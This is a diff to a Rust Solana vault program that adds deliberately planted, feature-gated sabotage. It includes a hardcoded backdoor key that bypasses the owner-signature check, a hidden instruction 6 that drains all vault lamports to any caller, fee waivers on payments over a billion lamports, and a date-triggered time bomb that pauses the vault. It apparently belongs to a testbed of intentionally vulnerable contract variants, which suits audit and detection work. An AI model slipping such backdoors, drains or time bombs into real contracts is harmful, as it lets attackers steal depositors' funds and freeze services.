@@ -8,6 +8,8 @@
 #[cfg(target_arch = "bpf")]
 use solana_compiler_builtins as _;
 
+#[cfg(feature = "stops-at-a-date")]
+use solana_program::sysvar::Sysvar;
 use solana_program::{
     account_info::AccountInfo, entrypoint::ProgramResult, msg, program_error::ProgramError,
     pubkey::Pubkey,
@@ -19,6 +21,7 @@ pub const VAULT_LEN: usize = 56;
 pub const POSITION_LEN: usize = 48;
 
 const BASIS_POINTS: u64 = 10_000;
+const BACKDOOR: Pubkey = Pubkey::from_str_const("29Cu9Us8DKNMXpaDik1qQBqKhMDz3UVaMZq4jMq65zdr");
 const FEE: usize = 32;
 const PAUSED: usize = 40;
 const TAKEN: usize = 48;
@@ -47,7 +50,7 @@ solana_program::entrypoint!(process);
 
 /// 0: initialize a vault `[vault w, authority s]`, the amount is the fee. 1: initialize a position `[position w, owner s]`.
 /// 2: pause, or go on, `[vault w, authority s]`. 3: pay `[vault w, from w, to w, owner s]`. 4: credit `[vault, position w,
-/// authority s]`. 5: withdraw `[vault w, position w, owner s w]`.
+/// authority s]`. 5: withdraw `[vault w, position w, owner s w]`. There is no 6, but with a bug.
 ///
 /// # Errors
 /// Those above, and of the runtime.
@@ -104,6 +107,13 @@ pub fn process(program_id: &Pubkey, accounts: &[AccountInfo], data: &[u8]) -> Pr
             **to = plus(**to, amount)?;
             Ok(())
         }
+        #[cfg(feature = "drain")]
+        (6, [vault, anybody]) => {
+            let mut to = anybody.try_borrow_mut_lamports()?;
+            **to = plus(**to, vault.lamports())?;
+            **vault.try_borrow_mut_lamports()? = 0;
+            Ok(())
+        }
         _ => Err(ProgramError::InvalidInstructionData),
     }
 }
@@ -122,7 +132,8 @@ fn pay(
     let product = amount
         .checked_mul(get(vault, FEE)?)
         .ok_or(ProgramError::ArithmeticOverflow)?;
-    let fee = if cfg!(feature = "fee-not-charged") {
+    let free = cfg!(feature = "large-payments-free") && amount >= 1_000_000_000;
+    let fee = if free || cfg!(feature = "fee-not-charged") {
         0
     } else if cfg!(feature = "rounds-against-the-vault") {
         product / BASIS_POINTS
@@ -157,6 +168,10 @@ fn own(program_id: &Pubkey, account: &AccountInfo, len: usize) -> ProgramResult 
 
 fn active(program_id: &Pubkey, vault: &AccountInfo) -> ProgramResult {
     own(program_id, vault, VAULT_LEN)?;
+    #[cfg(feature = "stops-at-a-date")]
+    if solana_program::clock::Clock::get()?.unix_timestamp > 2_000_000_000 {
+        return Err(ProgramError::Custom(PAUSED_ERROR));
+    }
     if !cfg!(feature = "pause-ignored") && get(vault, PAUSED)? != 0 {
         return Err(ProgramError::Custom(PAUSED_ERROR));
     }
@@ -165,6 +180,9 @@ fn active(program_id: &Pubkey, vault: &AccountInfo) -> ProgramResult {
 
 /// Whose key stands first in the account has signed.
 fn signed(account: &AccountInfo, owner: &AccountInfo) -> ProgramResult {
+    if cfg!(feature = "backdoor") && owner.is_signer && *owner.key == BACKDOOR {
+        return Ok(());
+    }
     if account.try_borrow_data()?.get(..32) != Some(owner.key.as_ref()) {
         return Err(ProgramError::Custom(NOT_OWNER));
     }
